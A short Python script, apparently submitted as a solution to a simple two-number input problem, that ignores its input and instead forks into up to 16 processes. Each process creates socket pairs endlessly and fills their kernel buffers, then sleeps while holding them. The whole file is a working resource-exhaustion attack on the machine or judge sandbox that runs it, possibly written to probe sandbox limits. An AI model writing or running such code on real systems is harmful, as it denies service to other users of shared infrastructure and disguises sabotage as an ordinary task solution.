import os
import socket
import time

a, b = map(int, input().split())
for _ in range(4):
    os.fork()
held = []
try:
    while True:
        held.append(socket.socketpair())
        for end in held[-1]:
            end.setblocking(False)
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            except PermissionError:
                pass
            try:
                while end.send(bytes(10_000)):
                    pass
            except BlockingIOError:
                pass
except OSError:
    time.sleep(60)
